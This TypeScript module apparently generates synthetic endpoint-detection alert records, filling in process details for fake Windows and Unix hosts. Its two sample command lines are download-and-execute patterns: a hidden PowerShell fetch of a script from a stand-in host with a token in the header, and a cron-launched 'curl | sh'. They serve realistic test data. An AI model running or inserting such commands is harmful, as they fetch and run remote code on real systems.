/** What a sensor saw a process do: its command line, its file, its parent, and whose it was. */
import type { Host } from "../../estate/hosts.ts";
import type { Person } from "../../estate/people.ts";
import { stableId } from "../../estate/random.ts";

interface Seen {
  readonly filepath: string;
  readonly cmdline: string;
  readonly parent: string;
}

const WINDOWS: Seen = {
  filepath: "\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  // Attackers and scripts write secrets down where everybody sees them.
  cmdline:
    "powershell.exe -nop -w hidden -c iwr https://updates.example/a.ps1 -Headers @{token='Winter2026!x'}",
  parent: "\\Device\\HarddiskVolume3\\Windows\\explorer.exe",
};

const ELSEWHERE: Seen = {
  filepath: "/bin/sh",
  cmdline: "sh -c curl -s https://updates.example/a | sh",
  parent: "/usr/sbin/cron",
};

/** The process of an alert on a host. */
export function processOf(host: Host, person: Person): Record<string, unknown> {
  const windows = host.kind.startsWith("windows") || host.kind === "domain-controller";
  const { filepath, cmdline, parent } = windows ? WINDOWS : ELSEWHERE;
  return {
    cmdline,
    filename: nameOf(filepath),
    filepath,
    sha256: stableId(`sha256/${filepath}`, 64),
    sha1: "0".repeat(40),
    md5: stableId(`md5/${filepath}`, 32),
    parent_details: { cmdline: nameOf(parent), filename: nameOf(parent), filepath: parent },
    user_id: `S-1-5-21-${Number.parseInt(stableId(`sid/${person.login}`, 8), 16)}`,
    ...(windows && { logon_domain: "ACME" }),
    falcon_host_link: `https://falcon.crowdstrike.com/activity-v2/detections/${host.id}`,
  };
}

function nameOf(path: string): string {
  return path.split(/[\\/]/).at(-1) ?? "";
}
